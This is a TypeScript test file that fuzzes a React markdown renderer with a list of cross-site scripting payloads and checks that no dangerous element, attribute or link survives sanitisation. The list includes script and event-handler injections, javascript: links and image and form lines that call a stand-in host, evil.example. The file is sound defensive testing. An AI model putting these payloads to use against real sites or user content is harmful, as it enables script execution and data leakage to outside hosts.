import { cleanup, render } from "@testing-library/react";
import { Tooltip } from "radix-ui";
import { describe, expect, it } from "vitest";
import { pick, random, repeat } from "@/lib/test-random";
import { MarkdownRenderer } from "./markdown-renderer";

const ATTACKS = [
  "<script>window.hacked=1</script>",
  "<img src=x onerror=window.hacked=1>",
  "<svg onload=window.hacked=1>",
  "<iframe srcdoc='<script>window.hacked=1</script>'></iframe>",
  "<a href='javascript:window.hacked=1'>x</a>",
  "<style>@import url(https://evil.example/x.css)</style>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example><input name=q></form>",
  "![x](https://evil.example/leak.png?q=1)",
  "![x][r]\n\n[r]: https://evil.example/p.png",
  "[x](javascript:window.hacked=1)",
  "[x](java&#115;cript:window.hacked=1)",
  "[x](java\\nscript:window.hacked=1)",
  "[x](\u0001javascript:window.hacked=1)",
  "[x](data:text/html,<script>window.hacked=1</script>)",
  '[x](https://evil.example/ "title\\" onclick=x")',
  "<javascript:window.hacked=1>",
  "[r]\n\n[r]: javascript:window.hacked=1",
  "```html\n<script>window.hacked=1</script>\n```",
  '```"><img src=x onerror=window.hacked=1>\nx',
  "| <b onclick=x> | a |\n|---|---|\n| 1 | 2 |",
  "[^1]\n\n[^1]: <img src=x onerror=window.hacked=1>",
  "- [x] <input onfocus=window.hacked=1 autofocus>",
  "{{constructor.constructor('window.hacked=1')()}}",
  "&lt;script&gt;window.hacked=1&lt;/script&gt;",
  "#7 -10.50 trade #12",
];
const GLUE = ["", " ", "\n", "\n\n", "`", "```", "~~~\n", "> ", "- ", "    ", "**", "\\", "\r\n", "\u0000", "\u202e"];
const NOT_ALLOWED =
  "script, img, picture, source, video, audio, iframe, object, embed, style, link, meta, base, form, svg, math";

function dangers(container: HTMLElement): string[] {
  const found = [...container.querySelectorAll(NOT_ALLOWED)]
    // Our own icons are drawn as SVG; nothing of the answer is.
    .filter((element) => !(element.tagName.toLowerCase() === "svg" && element.classList.contains("lucide")))
    .map((element) => element.outerHTML.slice(0, 100));
  for (const element of container.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on")) found.push(`${name}=${value}`);
      if (["src", "srcset", "srcdoc", "action", "formaction", "xlink:href", "background"].includes(name))
        found.push(name);
      if (name === "style" && /url|expression/i.test(value)) found.push(value);
    }
  }
  for (const link of container.querySelectorAll("a")) {
    const href = link.getAttribute("href") ?? "";
    if (!/^(https?:\/\/|mailto:)/i.test(href)) found.push(`href=${href}`);
    if (!link.rel.split(" ").includes("noopener") || link.target !== "_blank") found.push(`open link ${href}`);
  }
  return found;
}

describe("hostile markdown", () => {
  it("renders no element, attribute or link that could run, load or lead astray", () => {
    for (let seed = 1; seed <= 80; seed++) {
      const next = random(seed);
      const text = repeat(next, 7, () => pick(next, GLUE) + pick(next, ATTACKS) + pick(next, GLUE)).join("");
      const { container } = render(
        <Tooltip.Provider>
          <MarkdownRenderer
            content={text}
            streaming={next() < 0.5}
            figures={[
              { text: "-10.50", start: text.indexOf("-10.50"), end: text.indexOf("-10.50") + 6, status: "verified" },
            ]}
          />
        </Tooltip.Provider>,
      );
      expect(dangers(container), `seed ${seed}: ${JSON.stringify(text)}`).toEqual([]);
      cleanup();
    }
    expect((window as unknown as { hacked?: number }).hacked).toBeUndefined();
  }, 60_000);
});
